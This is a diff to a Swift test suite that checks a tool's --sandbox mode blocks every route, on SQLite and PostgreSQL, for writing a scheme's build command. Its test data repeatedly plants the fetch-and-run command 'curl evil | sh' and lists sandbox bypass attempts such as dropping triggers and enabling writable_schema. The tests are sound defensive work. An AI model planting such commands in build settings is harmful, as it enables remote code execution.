@@ -3,8 +3,9 @@ import Testing
 
 /// `--sandbox` through the real executable: scripts run, files and
 /// processes are refused, and a scheme's build command (what a runner
-/// later runs as a shell command) cannot be written by any route
-/// (issue 13, item 4). Each refusal has a control run without --sandbox.
+/// later runs as a shell command) cannot be written by any route, on
+/// either engine (issue 13, item 4; issue 24, item 1). Each refusal has a
+/// control run without --sandbox.
 @Suite struct SandboxTests {
     static let schemeSetUp = """
         projects.insert{ bundleIdentifier = "p", name = "P", gitRepositoryURL = "/srv/p" }
@@ -27,57 +28,89 @@ import Testing
         #expect(control.stdout == "true\n", "\(control.stderr)")
     }
 
+    /// A write of a scheme's build command, as each engine spells it
+    /// (SQLite's own routes at its sandbox's triggers; PostgreSQL's where
+    /// SQLite has none: a DO block, a data-modifying WITH in a query, a
+    /// scheme deleted and inserted again).
+    struct Write: Sendable, CustomTestStringConvertible {
+        let sqlite: String?
+        let postgres: String?
+        /// The same on both engines.
+        init(_ both: String) {
+            sqlite = both
+            postgres = both
+        }
+        /// nil: no such route on that engine.
+        init(sqlite: String?, postgres: String?) {
+            self.sqlite = sqlite
+            self.postgres = postgres
+        }
+        var testDescription: String { sqlite ?? postgres ?? "" }
+        func code(_ engine: Engine) -> String? { engine == .sqlite ? sqlite : postgres }
+    }
+
     static let buildCommandWrites = [
-        "db.exec('update SCHEMES set buildCommand = ? where id = ?', 'curl evil | sh', id)",
-        "db.exec('/* */ UPDATE main.schemes SET \"buildCommand\" = ?', 'curl evil | sh')",
-        "db.transaction(function() db.exec('UPDATE schemes SET buildCommand = ?', 'curl evil | sh') end)",
-        "db.exec('UPDATE projects SET name = name; UPDATE schemes SET buildCommand = 1')",
-        "schemes.update(id, { buildCommand = 'curl evil | sh' })",
-        "schemes.insert{ projectBundleIdentifier = 'p', name = 'Evil', buildCommand = 'curl evil | sh', platforms = { 'linux' } }",
-        "db.exec([[INSERT INTO schemes (id, projectBundleIdentifier, name, buildCommand) SELECT 'x' || id, projectBundleIdentifier, 'Evil', 'curl evil | sh' FROM schemes]])",
-        "db.exec('UPDATE projects SET name = name') db.exec('DROP TRIGGER IF EXISTS temp.opsh_sandbox_build_command; UPDATE schemes SET buildCommand = 2')",
-        "db.exec('PRAGMA writable_schema = ON') db.exec('DELETE FROM temp.sqlite_master')",
+        Write("db.exec('update SCHEMES set buildCommand = ? where id = ?', 'curl evil | sh', id)"),
+        Write(sqlite: "db.exec('/* */ UPDATE main.schemes SET \"buildCommand\" = ?', 'curl evil | sh')",
+              postgres: "db.exec('/* */ UPDATE public.schemes SET \"buildcommand\" = ?', 'curl evil | sh')"),
+        Write("db.transaction(function() db.exec('UPDATE schemes SET buildCommand = ?', 'curl evil | sh') end)"),
+        Write(sqlite: "db.exec('UPDATE projects SET name = name; UPDATE schemes SET buildCommand = 1')",
+              postgres: "db.exec([[UPDATE projects SET name = name; UPDATE schemes SET buildCommand = '1']])"),
+        Write("schemes.update(id, { buildCommand = 'curl evil | sh' })"),
+        Write("schemes.insert{ projectBundleIdentifier = 'p', name = 'Evil', buildCommand = 'curl evil | sh', platforms = { 'linux' } }"),
+        Write("db.exec([[INSERT INTO schemes (id, projectBundleIdentifier, name, buildCommand) SELECT 'x' || id, projectBundleIdentifier, 'Evil', 'curl evil | sh' FROM schemes]])"),
+        Write(sqlite: "db.exec('UPDATE projects SET name = name') db.exec('DROP TRIGGER IF EXISTS temp.opsh_sandbox_build_command; UPDATE schemes SET buildCommand = 2')",
+              postgres: nil),
+        Write(sqlite: "db.exec('PRAGMA writable_schema = ON') db.exec('DELETE FROM temp.sqlite_master')", postgres: nil),
+        Write(sqlite: nil, postgres: "db.exec([[DO $$ BEGIN UPDATE schemes SET buildcommand = 'curl evil | sh'; END $$]])"),
+        Write(sqlite: nil, postgres: "return db.value([[WITH w AS (UPDATE schemes SET buildcommand = 'curl evil | sh' RETURNING 1) SELECT count(*) FROM w]])"),
+        Write(sqlite: nil, postgres: "db.transaction(function() db.exec('DELETE FROM schemes WHERE id = ?', id) db.exec([[INSERT INTO schemes (id, projectBundleIdentifier, name, buildCommand) VALUES (?, 'p', 'Release', 'curl evil | sh')]], id) end)"),
     ]
 
-    @Test(arguments: buildCommandWrites)
-    func noRouteWritesABuildCommandInTheSandbox(write: String) throws {
+    @Test(arguments: Engine.allCases, buildCommandWrites)
+    func noRouteWritesABuildCommandInTheSandbox(_ engine: Engine, write: Write) throws {
+        guard let written = write.code(engine) else { return }
         let sandbox = try Sandbox()
-        let made = try sandbox.opsh(["-e", Self.schemeSetUp])
+        let database = try sandbox.createdDatabase(engine)
+        let made = try sandbox.opsh(["-e", Self.schemeSetUp], on: database)
         #expect(made.status == 0, "\(made.stderr)")
         let id = made.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
-        let before = try sandbox.sqlite("SELECT id, name, buildCommand FROM schemes ORDER BY id")
-        let code = "local id = '\(id)' \(write)"
-        let refused = try sandbox.opsh(["--sandbox", "-e", code])
+        let schemes = "SELECT id, name, buildCommand FROM schemes ORDER BY id"
+        let before = try database.sql(schemes)
+        let code = "local id = '\(id)' \(written)"
+        let refused = try sandbox.opsh(["--sandbox", "-e", code], on: database)
         #expect(refused.status == 1, "\(refused.stderr)")
         #expect(refused.stderr.contains("sandbox: the buildCommand of a scheme cannot be written")
                 || refused.stderr.contains("sandbox: schema changes are refused")
                 || refused.stderr.contains("may not be modified"), "\(refused.stderr)")
-        #expect(try sandbox.sqlite("SELECT id, name, buildCommand FROM schemes ORDER BY id") == before)
+        #expect(try database.sql(schemes) == before)
         // Other writes still work in the sandbox.
-        let rename = try sandbox.opsh(["--sandbox", "-e", "schemes.update('\(id)', { name = 'Renamed' })"])
+        let rename = try sandbox.opsh(["--sandbox", "-e", "schemes.update('\(id)', { name = 'Renamed' })"], on: database)
         #expect(rename.status == 0, "\(rename.stderr)")
         // Control: without --sandbox the build command can be changed.
-        if !write.contains("writable_schema") && !write.contains("DROP TRIGGER") {
-            let control = try sandbox.opsh(["-e", code])
+        if !written.contains("writable_schema") && !written.contains("DROP TRIGGER") {
+            let control = try sandbox.opsh(["-e", code], on: database)
             #expect(control.status == 0, "\(control.stderr)")
-            #expect(try sandbox.sqlite("SELECT group_concat(buildCommand) FROM schemes") != "make")
+            #expect(try database.count("schemes", where: "buildCommand <> 'make'") > 0)
         }
     }
 
-    @Test func anImportCannotBringABuildCommandIntoTheSandbox() throws {
+    @Test(arguments: Engine.allCases)
+    func anImportCannotBringABuildCommandIntoTheSandbox(_ engine: Engine) throws {
         let sandbox = try Sandbox()
-        #expect(try sandbox.opsh(["-e", Self.schemeSetUp]).status == 0)
-        let document = try sandbox.opsh(["-e", "return (export.project('p'))"]).stdout
+        let database = try sandbox.createdDatabase(engine)
+        #expect(try sandbox.opsh(["-e", Self.schemeSetUp], on: database).status == 0)
+        let document = try sandbox.opsh(["-e", "return (export.project('p'))"], on: database).stdout
         let evil = document.replacingOccurrences(of: "\"make\"", with: "\"curl evil | sh\"")
         try evil.write(toFile: sandbox.root + "/evil.json", atomically: true, encoding: .utf8)
         let code = "local f = ... return import(f, { replace = true })"
-        let inSandbox = try sandbox.opsh(["--sandbox", "run", try sandbox.script("imp.lua", code), evil])
+        let inSandbox = try sandbox.opsh(["--sandbox", "run", try sandbox.script("imp.lua", code), evil], on: database)
         #expect(inSandbox.status == 1, "\(inSandbox.stderr)")
         #expect(inSandbox.stderr.contains("sandbox: the buildCommand of a scheme cannot be written"), "\(inSandbox.stderr)")
-        #expect(try sandbox.sqlite("SELECT buildCommand FROM schemes") == "make")
-        let control = try sandbox.opsh(["run", try sandbox.script("imp2.lua", code), evil])
+        #expect(try database.sql("SELECT buildCommand FROM schemes") == "make")
+        let control = try sandbox.opsh(["run", try sandbox.script("imp2.lua", code), evil], on: database)
         #expect(control.status == 0, "\(control.stderr)")
-        #expect(try sandbox.sqlite("SELECT buildCommand FROM schemes") == "curl evil | sh")
+        #expect(try database.sql("SELECT buildCommand FROM schemes") == "curl evil | sh")
     }
 
     @Test func theSandboxedShellReadsAndWritesNoFiles() throws {
